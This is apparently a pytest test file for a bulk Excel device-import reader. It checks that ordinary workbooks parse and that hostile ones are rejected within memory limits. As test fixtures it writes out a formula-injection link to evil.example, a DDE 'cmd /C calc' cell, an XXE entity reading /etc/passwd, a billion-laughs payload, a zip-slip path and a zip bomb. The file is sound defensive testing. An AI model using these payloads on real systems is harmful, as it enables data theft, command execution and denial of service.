"""Excel workbooks: as Excel writes them, and as those who mean harm do."""

import tracemalloc
import zipfile
from datetime import date

import pytest

from devices.bulk import workbook
from devices.bulk.errors import UnreadableFile
from tests.unit.devices.bulk.tables import (
    codes,
    csv_file,
    raw_workbook,
    read,
    text_row,
    workbook_file,
    zip_file,
)

HEADER = ("デバイスID", "プロファイル", "名称", "緯度", "経度")


def test_what_excel_writes_is_read() -> None:
    rows = [HEADER, ("aq-001", "air-quality", "本町", 35.75, 139.5), (1002, "noise", None, None, None)]
    entries, report = read(workbook_file(rows))
    assert [(entry.row, entry.id) for entry in entries] == [(2, "aq-001"), (3, "1002")]
    assert entries[0].given["location"]["coordinates"] == [139.5, 35.75]
    assert (report.format, report.encoding, report.errors) == ("xlsx", None, 0)


def test_formulas_errors_and_dates_are_faults_of_their_cells() -> None:
    rows = [
        HEADER,
        ('=HYPERLINK("http://evil.example/?"&A3)', "noise", "a", 35.7, 139.4),
        ("n-2", "noise", "=1+1", "=cmd|' /C calc'!A0", 139.4),
        ("n-3", "noise", "#N/A", 35.7, 139.4),
        (date(2026, 1, 2), "noise", "b", 35.7, 139.4),
        ("n-5", "noise", "c", True, 139.4),
    ]
    entries, report = read(workbook_file(rows))
    assert entries == []
    assert codes(report) == [
        (2, "デバイスID", "formula"),
        (3, "名称", "formula"),
        (3, "緯度", "formula"),
        (4, "名称", "excel-error"),
        (5, "デバイスID", "excel-date"),
        (6, "緯度", "number"),
    ]
    assert report.faulty == 5


def test_a_sheet_that_lies_about_its_size_is_read_as_it_is() -> None:
    data = text_row(1, ("id", "profile")) + text_row(2, ("n-1", "noise"))
    sheet = raw_workbook(data)
    lying = sheet_with_dimension(sheet, "A1:XFD1048576")
    entries, report = read(lying)
    assert [entry.id for entry in entries] == ["n-1"]
    assert report.columns == {"id": "id", "profile": "profile"}


def sheet_with_dimension(data: bytes, place: str) -> bytes:
    import io

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    files[sheet] = files[sheet].replace(b"<sheetData>", f'<dimension ref="{place}"/><sheetData>'.encode())
    return zip_file(files)


XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst>&f;</sst>'
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>'
)
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><sst/>'.encode("utf-16")
TOO_MANY_BLANKS = b" " * (workbook.MAX_STRINGS_BYTES + 1)
SMALL = text_row(1, ("id",))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (raw_workbook(b"<row r='1'/>" + b" " * (workbook.MAX_UNPACKED_BYTES + 1)), "workbook-large"),
        (raw_workbook(SMALL, xl__sharedStrings=b"")[:-30], "workbook-damaged"),
        (
            raw_workbook(SMALL, **{"xl__sharedStrings.xml": b" " * (workbook.MAX_STRINGS_BYTES + 1)}),
            "workbook-large",
        ),
        (raw_workbook(SMALL, **{"xl__styles.xml": b"<a/>" * 300_000}), "workbook-large"),
        (raw_workbook(SMALL, **{"xl__sharedStrings.xml": XXE}), "workbook-doctype"),
        (raw_workbook(SMALL, **{"xl__sharedStrings.xml": LAUGHS}), "workbook-doctype"),
        (raw_workbook(SMALL, **{"xl__sharedStrings.xml": UTF16}), "workbook-damaged"),
        (raw_workbook(SMALL, **{"xl__workbook.xml": XXE}), "workbook-doctype"),
        (raw_workbook(SMALL, **{f"x{n}": b"" for n in range(workbook.MAX_PARTS)}), "workbook-parts"),
        (raw_workbook(text_row(1, ["c"] * 100_000)), "row-long"),
        (raw_workbook("<row r='1'>" + "<c/>" * 500_000 + "</row>"), "row-long"),
        (raw_workbook(text_row(1, ["id", *["c"] * 300])), "columns-many"),
        (raw_workbook(text_row(1, ["id"]) + "<row r='200000'><c><v>1</v></c></row>"), "rows-empty"),
        (raw_workbook(SMALL + "<b>" * 1_000_000), "row-long"),
        (raw_workbook("<row r='1'><c r='id'"), "workbook-damaged"),
        (raw_workbook(""), "file-empty"),
        (zip_file({"../../etc/passwd": b"x"}), "workbook-damaged"),
        (b"PK\x03\x04 and then nothing", "workbook-damaged"),
    ],
    ids=lambda value: value if isinstance(value, str) else f"{len(value)}-bytes",
)
def test_a_harmful_workbook_is_refused_within_bounds(data: bytes, code: str) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableFile) as caught:
            read(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.code == code
    assert peak < 400 * 2**20


def test_a_zip_bomb_is_left_before_it_bursts() -> None:
    bomb = raw_workbook(b"<row r='1'>" + b"0" * 200_000_000 + b"</row>")
    assert len(bomb) < 2**19
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableFile) as caught:
            read(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.code == "workbook-large"
    assert peak < 3 * workbook.MAX_UNPACKED_BYTES


def test_a_workbook_with_a_password_says_so() -> None:
    data = bytearray(raw_workbook(SMALL))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    with pytest.raises(UnreadableFile) as caught:
        read(bytes(data))
    assert caught.value.code == "workbook-encrypted"


def test_a_csv_by_another_name_is_still_a_csv() -> None:
    entries, _ = read(csv_file("id,profile", "n-1,noise"))
    assert entries[0].id == "n-1"
